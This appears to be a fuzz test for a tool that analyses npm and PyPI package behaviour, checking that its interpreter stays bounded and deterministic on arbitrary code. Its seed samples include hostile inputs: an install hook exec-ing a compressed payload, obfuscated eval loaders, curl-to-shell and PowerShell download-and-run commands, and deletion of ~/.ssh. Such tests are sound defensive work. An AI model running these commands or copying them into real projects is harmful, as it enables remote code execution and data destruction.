/** Code of any shape through lowering and interpreter: never throws, stays within its steps, and says the same twice. */
import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { LIMITS } from '../../lib/behavior/interpreter/machine.js';
import { buildSequence } from '../../lib/behavior/sequence.js';
import { parseShell } from '../../lib/behavior/shell.js';
import type { BehaviorSequence, EntryPoint } from '../../lib/types.js';
import { ROOT } from '../cli/run.js';
import { MALICIOUS, TWINS } from '../fixtures/packages.js';
import { artifactOf, commandEntry, type Files, importEntry } from '../helpers/sequence.js';
import { counted, mutated, runs, soup } from './support.js';

const DISGUISE = join(ROOT, 'test/fixtures/disguise');
const JAVASCRIPT = [
  ...[...MALICIOUS, ...TWINS].flatMap(({ files }) => Object.values(files)),
  ...readdirSync(DISGUISE).map((name) => readFileSync(join(DISGUISE, name), 'utf8')),
  `(function(a,b){var c=a();while(!![]){try{var d=parseInt(f(0x1))/0x1+-parseInt(f(0x2))/0x2;if(d===b)break;else c['push'](c['shift']());}catch(e){c['push'](c['shift']());}}}(g,0x1d2));function g(){var h=['1abc','2def','log'];g=function(){return h;};return g();}function f(i){return g()[i-0x1];}eval(String.fromCharCode(...[97,98].map(x=>x^1)));`,
  `import * as fs from 'fs'; export class A extends B { static #x = 1; get y() { return this.#x ?? super.y; } async *z() { yield* this; for await (const q of z) await q; } } export default (a = {}, { b, ...c } = a, [d, , ...e] = []) => \`\${a}\${\`\${b}\`}\`;`,
  `label: for (var i = 0, s = ''; i < 1e9; i++) { switch (i % 3) { case 0: continue label; case 1: s += s; break; default: if (s.length > 5) break label; } } with (Math) { max(s, ...[1, 2]); } do { try { throw s } catch { } finally { s = s.split('').reverse().join('') } } while (s);`,
];
const PYTHON = [
  `import os, base64, zlib\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass C(install):\n    def run(self):\n        install.run(self)\n        exec(zlib.decompress(base64.b64decode(b'eJwLAAAAAA==')))\nsetup(name='a', version='1', cmdclass={'install': C})\n`,
  `def f(a, *b, c=1, **d):\n    with open(a) as x, open(b[0]) as y:\n        for i, j in enumerate(x):\n            yield {k: v for k, v in d.items() if v} | {i: [*b, *(z for z in y)]}\n    return f'{a!r:>{c}} {b}' % () if not c else lambda q: q(a)[1:2, ::3]\n`,
  `s = ''.join(chr(ord(c) ^ 7) for c in 'abc')\nwhile True:\n    s += s\n    try:\n        eval(compile(s, '<s>', 'exec'), globals())\n    except (SyntaxError, Exception) as e: print >>s, e\n    else: break\n    finally: del s\n`,
  `match x:\n    case {'a': [1, *r], **k} if r: exec 'print 1' in {}\n    case A(b=c) | [d]: raise E from None\n    case _: (y := 10); async def g(): await y; nonlocal z\n@d.e(1)\nclass M(type, metaclass=M): __slots__ = ()\n`,
];
const WORDS =
  "( ) [ ] { } , ; : . ... => = += ** ?. ?? ! ~ - ' \" ` $ { } /* */ // # \\ \n \t 0 1e999 0x 'a' `b` /(a+)+$/g @ this super new await yield async " +
  'function class extends return if else for of in while do switch case break continue try catch finally throw typeof import export ' +
  'let const var null undefined eval require process.env Buffer.from atob String.fromCharCode __proto__ constructor prototype arguments ' +
  'def lambda exec __import__ getattr globals() self with as from pass global print not and or is None True b"\\x00" f"{x!r}" """ ' +
  "'a'.repeat(1e9) [].concat.apply Array(1e9) .split('') .join() .map(x=>x) .replace(/./g,f) .length [0] () \u2028 \u202e \ud800 \0";
const TOKENS = WORDS.split(' ').filter(Boolean);
const SHELL = (
  "node python -c -e 'x' sh bash curl -s http://a.invalid/x | || && ; & > >> < << EOF \n $( ) ` $IFS $HOME \" ' \\ ^ %PATH% powershell -enc " +
  "JAAx base64 -d eval exec . ./a.sh npm run x if then fi for in do done while { } ( ) 2>&1 # * ? ~ = A=b npx cmd /c start xargs env sudo echo printf \\x41 $'\\x41' @("
)
  .split(' ')
  .concat('$'.concat('{IFS}'));
const COMMANDS = [
  "node -e \"require('child_process').exec('curl http://a.invalid|sh')\"",
  "FOO=bar sh -c 'echo $FOO | base64 -d | bash' && rm -rf ~/.ssh; (cd lib && node-gyp rebuild) || exit 0 &",
  'if [ -f x ]; then . ./x; else cat <<EOF > y\n$(curl -s $URL)\nEOF\nfi; for f in *.js; do node "$f" > /dev/null 2>&1; done',
  'powershell -NoP -W Hidden -Command "IEX (New-Object Net.WebClient).DownloadString(\'http://a.invalid\')"',
];

/** The sequence of the files, by an interpreter that hides no error of its own; the same on a second run. */
async function check(
  ecosystem: 'npm' | 'pypi',
  files: Files,
  entries: readonly EntryPoint[],
): Promise<BehaviorSequence> {
  const artifact = artifactOf(ecosystem, files, entries);
  const first = await buildSequence(artifact, { strict: true });
  assert.ok(first.stats.steps <= LIMITS.steps + 1, `${first.stats.steps} steps`);
  for (const { behaviors } of first.units) assert.ok(behaviors.length <= 5000);
  const second = await buildSequence(artifact, { strict: true });
  assert.equal(JSON.stringify(second), JSON.stringify(first), 'the same again');
  return first;
}

describe('code, whatever it is', function () {
  this.timeout(0);

  for (const [name, file, ecosystem, samples] of [
    ['JavaScript', 'index.js', 'npm', JAVASCRIPT],
    ['TypeScript', 'index.tsx', 'npm', JAVASCRIPT],
    ['Python', 'a/__init__.py', 'pypi', PYTHON],
  ] as const) {
    it(`${name}: tokens in any order`, () =>
      fc.assert(
        fc.asyncProperty(
          soup(TOKENS),
          counted(async (text) => {
            await check(ecosystem, { [file]: text }, [importEntry(file)]);
          }),
        ),
        runs(60),
      ));

    it(`${name}: real code, damaged`, () =>
      fc.assert(
        fc.asyncProperty(
          mutated(samples, TOKENS),
          counted(async (text) => {
            await check(ecosystem, { [file]: text }, [importEntry(file)]);
          }),
        ),
        runs(60),
      ));
  }

  it('several files that import each other', () =>
    fc.assert(
      fc.asyncProperty(
        fc.array(mutated(JAVASCRIPT, [...TOKENS, "require('./a')", "import './b.js'", 'exports.x=']), {
          minLength: 3,
          maxLength: 3,
        }),
        counted(async ([a, b, c]) => {
          const files = { 'a.js': a!, 'b.js': b!, 'index.js': `require('./a');${c}` };
          await check('npm', files, [importEntry('index.js'), commandEntry('node b.js')]);
        }),
      ),
      runs(20),
    ));

  /** Text computations whose results are known, chained: what the string evaluator is for. */
  const literal = fc.oneof(
    fc.string({ maxLength: 12 }).map((text) => JSON.stringify(text)),
    fc.constantFrom('1e9', '-1', '0', 'NaN', '2**31', 'undefined', 'null', '/(a+)+$/g', '/./gu', '[]', '{}'),
    fc.constantFrom(
      '[1,2,3]',
      "['b','a']",
      'x=>x',
      '(a,b)=>a+b',
      'String',
      "Buffer.from('6162','hex')",
      'this',
    ),
  );
  const METHODS = (
    'repeat padStart padEnd split join map filter reduce reverse replace replaceAll slice substr substring charAt charCodeAt ' +
    'codePointAt concat indexOf at fill flat sort splice push toString toUpperCase trim normalize match matchAll apply call bind ' +
    'fromCharCode raw localeCompare copyWithin keys entries'
  ).split(' ');
  const expression = fc.letrec<{ e: string }>((tie) => ({
    e: fc.oneof(
      { maxDepth: 6, depthSize: 'small' },
      literal,
      fc
        .tuple(tie('e'), fc.constantFrom(...METHODS), fc.array(tie('e'), { maxLength: 3 }))
        .map(([on, method, args]) => `(${on}).${method}(${args.join()})`),
      fc
        .tuple(
          tie('e'),
          fc.constantFrom('+', '-', '*', '%', '**', '<<', '>>>', '^', '&&', '??', ',', '==='),
          tie('e'),
        )
        .map(([a, op, b]) => `(${a} ${op} ${b})`),
      tie('e').map((e) => `\`a\${${e}}b\``),
      fc
        .tuple(
          fc.constantFrom(
            'atob',
            'btoa',
            'unescape',
            'decodeURIComponent',
            'JSON.parse',
            'JSON.stringify',
            'Buffer.from',
            'String.fromCharCode',
            'parseInt',
            'Array',
            'Array.from',
            'Object.keys',
            'new RegExp',
            'new Uint8Array',
            'eval',
            'new Function',
          ),
          fc.array(tie('e'), { maxLength: 2 }),
        )
        .map(([name, args]) => `${name}(${args.join()})`),
      fc.tuple(tie('e'), tie('e')).map(([a, b]) => `(${a})[${b}]`),
    ),
  })).e;

  it('string computations', () =>
    fc.assert(
      fc.asyncProperty(
        expression,
        counted(async (text) => {
          await check('npm', { 'index.js': `var x=${text};eval(x);require(x)` }, [importEntry('index.js')]);
        }),
      ),
      runs(150),
    ));

  it('Python string computations', () => {
    const value = fc.oneof(
      fc.string({ maxLength: 10 }).map((text) => JSON.stringify(text)),
      fc.constantFrom(
        "b'eJwDAAAAAAE='",
        '10**9',
        '-1',
        '[1,2]',
        '{1:2}',
        'None',
        '(1,)',
        "'%s%d'",
        "'{0:>{1}}'",
        'chr',
      ),
    );
    const methods =
      'format join split replace encode decode upper zfill center ljust translate strip rjust splitlines partition hex expandtabs'.split(
        ' ',
      );
    const calls =
      'base64.b64decode zlib.decompress bytes.fromhex chr ord int bytes str list map reversed sorted codecs.decode binascii.unhexlify range sum getattr eval exec compile __import__ marshal.loads'.split(
        ' ',
      );
    const tree = fc.letrec<{ e: string }>((tie) => ({
      e: fc.oneof(
        { maxDepth: 6, depthSize: 'small' },
        value,
        fc
          .tuple(tie('e'), fc.constantFrom(...methods), fc.array(tie('e'), { maxLength: 2 }))
          .map(([on, method, args]) => `(${on}).${method}(${args.join()})`),
        fc
          .tuple(tie('e'), fc.constantFrom('+', '%', '*', '**', '//', '<<', '^', 'and', 'in'), tie('e'))
          .map(([a, op, b]) => `(${a} ${op} ${b})`),
        fc
          .tuple(fc.constantFrom(...calls), fc.array(tie('e'), { maxLength: 2 }))
          .map(([name, args]) => `${name}(${args.join()})`),
        fc.tuple(tie('e'), tie('e')).map(([a, b]) => `[${a} for x in ${b}][::-1]`),
      ),
    })).e;
    return fc.assert(
      fc.asyncProperty(
        tree,
        counted(async (text) => {
          const code = `import base64,zlib,codecs,binascii,marshal\nx=${text}\nexec(x)\n__import__(x)\n`;
          await check('pypi', { 'a.py': code }, [importEntry('a.py')]);
        }),
      ),
      runs(150),
    );
  });

  it('shell: tokens in any order, and damaged commands', () =>
    fc.assert(
      fc.asyncProperty(
        fc.oneof(soup(SHELL, 60), mutated(COMMANDS, SHELL)),
        counted(async (text) => {
          assert.deepEqual(parseShell(text), parseShell(text));
          const files = { 'package.json': '{}', 'a.sh': text, 'x.js': 'eval(1)' };
          await check('npm', files, [commandEntry(text), commandEntry('sh a.sh')]);
        }),
      ),
      runs(150),
    ));
});
